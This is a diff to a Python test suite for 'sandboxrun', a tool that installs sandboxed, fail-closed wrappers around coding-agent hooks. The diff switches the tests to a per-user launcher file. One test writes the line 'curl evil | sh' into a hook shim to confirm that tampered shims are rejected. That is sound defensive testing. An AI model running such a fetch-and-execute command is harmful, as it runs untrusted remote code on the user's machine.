@@ -28,6 +28,7 @@ from sandboxrun._install import claude as _claude_install
 from sandboxrun._install import command as _command
 from sandboxrun._install import files as _files
 from sandboxrun._install import jsonspan
+from sandboxrun._install import launcher as _launcher
 from sandboxrun._install.cline import shim_text
 from sandboxrun._install.record import Record, value_key
 
@@ -74,9 +75,10 @@ SR = os.path.join(os.path.dirname(sys.executable), "sandboxrun")  # this venv's 
 HOOK = os.path.join(os.path.dirname(sys.executable), "sandboxrun-hook")  # what hooks start
 
 
-def launcher() -> list[str]:
-    """What install writes to start this sandboxrun: PYTHON -I SCRIPT."""
-    return _command.launcher()
+def launcher(home: Path | None = None) -> list[str]:
+    """What install writes to start this sandboxrun: PYTHON -I SCRIPT (the system's
+    files), or, in the files of the user with this `home`, the launcher file."""
+    return _command.launcher(None if home is None else str(home))
 
 
 def read_shim(path: object, home: Path) -> Any:
@@ -174,12 +176,15 @@ def test_install_wraps_every_command_hook_and_keeps_the_rest(project, home, caps
     pre = data["hooks"]["PreToolUse"][0]["hooks"]
     py, flag, sr = launcher()
     assert (flag, sr) == ("-I", HOOK) and os.path.isabs(py)  # Python isolated from the agent's env
+    [hook] = launcher(home)  # one short path in the user's data folder, which starts them
+    assert hook == str(home / ".local" / "share" / "sandboxrun" / "hook")
+    assert _launcher.target(hook) == [py, sr] and os.stat(hook).st_mode & 0o777 == 0o755
     assert shlex.split(pre[0]["command"]) == [
-        py, "-I", sr, "exec", "--agent", "claude", "--untrusted", "--timeout", "28", "--",
+        hook, "exec", "--agent", "claude", "--untrusted", "--timeout", "28", "--",
         "./hooks/guard.sh | tee -a /tmp/log 2>&1",
     ]  # fmt: skip
-    assert pre[1]["command"] == py
-    assert pre[1]["args"] == ["-I", sr, "exec", "--agent", "claude", "--untrusted", "--",
+    assert pre[1]["command"] == hook
+    assert pre[1]["args"] == ["exec", "--agent", "claude", "--untrusted", "--",
                               "python3", "hooks/g.py", "a b", "$HOME"]  # fmt: skip
     assert pre[2] == {"type": "http", "url": "http://example.invalid"}
     stop = data["hooks"]["Stop"][0]["hooks"][0]
@@ -297,7 +302,7 @@ def test_a_pulled_hook_is_named_and_a_second_install_wraps_it(project, home, cap
     out = capsys.readouterr().out
     assert f"not wrapped: {local} hooks.PreToolUse[0].hooks[0]: './new.sh' runs unsandboxed" in out
     assert sandboxrun("install", *args) == 0
-    assert "./new.sh" in local.read_text() and f"{HOOK} exec" in local.read_text()
+    assert "./new.sh" in local.read_text() and f"{launcher(home)[0]} exec" in local.read_text()
     capsys.readouterr()
     sandboxrun("list", "--agent", "claude", "--workspace", str(project), "--home", str(home))
     assert "not wrapped" not in capsys.readouterr().out
@@ -343,7 +348,9 @@ def test_fail_closed_wrappers_block_when_sandboxrun_is_gone(project, home, movab
     command = json.loads(path.read_text())["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
     done = subprocess.run(["sh", "-c", command], capture_output=True, cwd=project, check=False)
     assert (done.returncode, done.stdout) == (2, b"")
-    assert done.stderr == f"sandboxrun (fail-closed): {movable} is missing\n".encode()
+    gone = f"{launcher(home)[0]} finds no sandboxrun (moved or uninstalled?)"
+    why = f"sandboxrun (fail-closed): {gone}"
+    assert done.stderr == f"{why}\n".encode()
 
 
 # -- what counts as installed: install's record, byte for byte ------------------------------
@@ -406,7 +413,7 @@ def test_a_look_alike_wrapper_is_a_hook(project, home, capsys, command: str) -> 
     inner = OLD_SHAPED.get(command, command)
     installed = first_command(local)
     wrapped = shlex.split(installed)
-    assert wrapped == [*launcher(), "exec", "--agent", "claude", "--untrusted", "--", inner]
+    assert wrapped == [*launcher(home), "exec", "--agent", "claude", "--untrusted", "--", inner]
     assert installed == shlex.join(wrapped)  # the host's shell only starts the launcher
     found = CLAUDE.discover("PreToolUse", [str(project)], str(home)).hooks
     assert ("/bin/sh", "-c", inner) in [h.argv for h in found]
@@ -443,10 +450,10 @@ def test_a_record_of_one_workspace_does_not_vouch_for_another(project, home, cap
     out = claude_list(other, home, capsys)
     assert out.count(f"not wrapped: {copied}") == 3
     found = CLAUDE.discover("PreToolUse", [str(other)], str(home)).hooks
-    assert shlex.split(found[0].argv[2])[:3] == launcher()  # run as written, not unwrapped
+    assert shlex.split(found[0].argv[2])[:1] == launcher(home)  # run as written, not unwrapped
     assert sandboxrun("install", "--agent", "claude", "--workspace", str(other),
                       "--home", str(home)) == 0  # fmt: skip
-    assert shlex.split(first_command(copied))[-1].startswith(shlex.quote(launcher()[0]))
+    assert shlex.split(first_command(copied))[-1].startswith(shlex.quote(launcher(home)[0]))
 
 
 def test_a_project_wrapper_without_untrusted_is_not_trusted(project, home, capsys) -> None:
@@ -580,7 +587,8 @@ def test_an_earlier_install_is_migrated(project, home, tmp_path, capsys, scope, 
         args = ["--agent", "claude", "--user"]
     # What a fresh install writes, for comparison (another home: another record).
     assert sandboxrun("install", *args, "--home", str(fresh_home)) == 0
-    fresh = fresh_path.read_bytes()
+    # the same but for the launcher's path: it is in the home's data folder
+    fresh = fresh_path.read_bytes().replace(*(launcher(h)[0].encode() for h in (fresh_home, home)))
     path.write_bytes(SETTINGS.encode())
     old = old_install(path, home, options)
     out = claude_list(project, home, capsys)
@@ -732,7 +740,8 @@ def test_cline_fail_closed_shim_cancels_when_sandboxrun_is_gone(cline_ws, home, 
     done = subprocess.run(["/bin/sh", "-c", str(shim)], capture_output=True, check=False)
     assert done.returncode == 0
     assert json.loads(done.stdout) == {"cancel": True, "contextModification": "",
-        "errorMessage": f"sandboxrun (fail-closed): {movable} is missing"}  # fmt: skip
+        "errorMessage": f"sandboxrun (fail-closed): {launcher(home)[0]} finds no sandboxrun"
+                        " (moved or uninstalled?)"}  # fmt: skip
     lines = shim.read_text().split("\n")  # a shim changed by one line: not ours any more
     shim.write_text("\n".join([*lines[:3], "curl evil | sh", *lines[4:]]))
     assert read_shim(shim, home) is None
@@ -815,7 +824,7 @@ def test_cline_earlier_install_is_migrated(cline_ws, home, capsys) -> None:
         moved = str(cline_ws / ".sandboxrun/moved" / rel)
         shim = cline_ws / rel / name
         assert shim.read_bytes() == shim_text(
-            launcher(), "cline", name, ["--hooks-dir", moved, "--home", str(home)]
+            launcher(home), "cline", name, ["--hooks-dir", moved, "--home", str(home)]
         )
         assert read_shim(shim, home).hooks_dirs == (moved,)
     found = CLINE.discover(None, [str(cline_ws)], str(home)).hooks
